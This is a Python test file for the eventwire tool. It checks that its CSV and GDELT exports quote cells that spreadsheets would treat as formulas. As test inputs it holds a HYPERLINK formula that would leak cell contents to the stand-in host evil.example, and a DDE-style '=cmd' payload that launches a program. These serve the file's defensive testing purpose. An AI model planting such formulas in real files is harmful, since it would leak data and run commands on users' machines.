"""Issue 14, item 6: spreadsheet formula injection is guarded in every CSV-like writer (one module).

``eventwire export --format csv --table articles`` wrote titles such as ``=HYPERLINK(...)`` raw while
the web app's CSV download guarded them.
"""
from __future__ import annotations

import csv
import io
from dataclasses import replace

import duckdb
import pyarrow as pa
import pytest
from typer.testing import CliRunner

from eventwire.cli import app
from eventwire.corpus import update_corpus
from eventwire.csvsafe import guard_batch, safe_cell
from eventwire.records import Document, Outcome
from eventwire.store.db import Store
from eventwire.store.export import export
from tests import corpus_gen

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CELLS = {"=1+1": "'=1+1", "+cmd": "'+cmd", "-1+1": "'-1+1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
         "-4.0": "-4.0", "+3": "+3", "1e-5": "1e-5", "-.5": "-.5", "Oslo talks": "Oslo talks", "": "", "a=b": "a=b"}


def test_safe_cell_and_guard_batch_agree():
    for raw, want in CELLS.items():
        assert safe_cell(raw) == want, raw
    assert safe_cell(-6.5) == -6.5 and safe_cell(None) is None
    batch = pa.record_batch({"t": list(CELLS) + [None], "n": list(range(len(CELLS) + 1))})
    out = guard_batch(batch)
    assert out.column("t").to_pylist() == list(CELLS.values()) + [None]
    assert out.column("n").to_pylist() == batch.column("n").to_pylist()
    clean = pa.record_batch({"t": ["a", "b"]})
    assert guard_batch(clean) is clean


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """The generated corpus, with a formula as the title, outlet and body start of one article."""
    path = tmp_path_factory.mktemp("csvsafe") / "x.duckdb"
    arts = [corpus_gen.to_article(g) for g in corpus_gen.build()]
    arts[0] = replace(arts[0], title=EVIL, outlet="@evil", url="=cmd|' /C calc'!A0")
    with Store(path) as store:
        store.write("gen", [Outcome(Document(doc_id=a.doc_id, source=a.source, kind="gen"), "article", a) for a in arts])
        update_corpus(store.con)
    return path, arts[0]


@pytest.mark.parametrize("table", ["articles", "stories", "events", "mentions"])
def test_every_csv_export_table_has_no_formula_cell(hostile_db, tmp_path, table):
    path, evil = hostile_db
    out = tmp_path / f"{table}.csv"
    r = CliRunner().invoke(app, ["export", "--db", str(path), "-f", "csv", "--table", table, "-o", str(out)])
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) > 1
    cells = [c for row in rows[1:] for c in row]
    risky = [c for c in cells if safe_cell(c) != c]
    assert risky == []  # every cell a spreadsheet would run is quoted
    if table == "articles":
        assert "'" + EVIL in cells and "'@evil" in cells
    if table == "stories":
        assert "'" + EVIL in cells  # the story's label is the article's title


def test_gdelt_text_fields_are_guarded_and_numbers_are_not(hostile_db):
    path, _ = hostile_db
    con = duckdb.connect(str(path), read_only=True)
    try:
        buf = io.StringIO()
        export(con, "gdelt", buf)
    finally:
        con.close()
    fields = [f for line in buf.getvalue().splitlines() for f in line.split("\t")]
    assert fields and all(safe_cell(f) == f for f in fields)
    assert any(f.startswith("-") for f in fields)  # negative Goldstein scores stay numbers


def test_gdelt_formula_in_a_place_name_is_quoted(tmp_path):
    path = tmp_path / "x.duckdb"
    arts = [corpus_gen.to_article(g) for g in corpus_gen.build()]
    with Store(path) as store:
        store.write("gen", [Outcome(Document(doc_id=a.doc_id, source=a.source, kind="gen"), "article", a) for a in arts])
        update_corpus(store.con)
        store.con.execute("UPDATE aggregated_events SET location_text = '=EVIL()', source_name = '+HACK'")
    con = duckdb.connect(str(path), read_only=True)
    try:
        buf = io.StringIO()
        export(con, "gdelt", buf, all_modalities=True)
    finally:
        con.close()
    fields = [f for line in buf.getvalue().splitlines() for f in line.split("\t")]
    assert all(safe_cell(f) == f for f in fields)
    assert "'=EVIL()" in fields or "'+HACK" in fields
